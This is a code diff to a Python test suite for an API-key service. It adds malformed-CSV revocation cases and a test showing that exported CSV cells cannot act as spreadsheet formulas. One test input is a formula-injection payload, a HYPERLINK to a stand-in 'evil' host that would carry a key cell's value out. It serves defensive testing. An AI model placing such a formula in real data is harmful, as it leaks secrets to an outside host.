@@ -106,7 +106,16 @@ def test_keys_are_revoked_alone_by_a_list_of_ids_or_by_whom_they_speak_for(servi
 
 
 @pytest.mark.parametrize(
-    "text", ["user\npupil 1\nnobody\n", "id\n{id}\n0000000000000000\n", 'id\n{id}\n""\n', "id\n{secret}\n"]
+    "text",
+    [
+        "user\npupil 1\nnobody\n",
+        "id\n{id}\n0000000000000000\n",
+        'id\n{id}\n""\n',
+        "id\n{secret}\n",
+        "id\n{id}\n {secret}\n",
+        '"id"x\n{id}\n',
+        '"id\n{id}\n',
+    ],
 )
 def test_of_a_list_with_a_mistake_no_key_is_revoked(serving, published, text):
     server = serving()
@@ -115,6 +124,36 @@ def test_of_a_list_with_a_mistake_no_key_is_revoked(serving, published, text):
     assert response.status_code == 400
     assert made[0]["secret"] not in response.text
     assert all(key.revoked_at is None for key in published.keys.all())
+
+
+def test_no_cell_of_what_was_made_is_a_formula_to_a_spreadsheet_and_it_can_be_sent_again(serving):
+    server = serving()
+    names = [
+        '=HYPERLINK("http://evil/?k="&D2)',
+        "@ann",
+        "-1+1",
+        "+49",
+        "\tx",
+        "\rx",
+        "'",
+        "ann\rben",
+        "=\n=",
+        "zoe",
+    ]
+    out = io.StringIO()
+    csv.writer(out).writerows([("user", "label"), *((each, "=1+1") for each in names)])
+    response = server.service.post("/v1/keys", content=out.getvalue().encode(), headers=CSV)
+    assert response.status_code == 201
+    made = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in made for cell in row.values())
+    assert made[-1]["user"] == "zoe"
+    listed = {key["id"]: (key["user"], key["label"]) for key in told(server.service.get("/v1/keys"))["keys"]}
+    told_of = [listed[row["id"]] for row in made]
+    assert sorted(told_of) == sorted((each, "=1+1") for each in names)
+    by_user = "".join(response.text.replace("user,id,", "user,key,", 1))
+    assert told(server.service.post("/v1/keys/revoke", content=by_user.encode(), headers=CSV)) == {
+        "revoked": len(names)
+    }
 
 
 def test_a_server_that_asks_nobody_has_no_keys(serving):
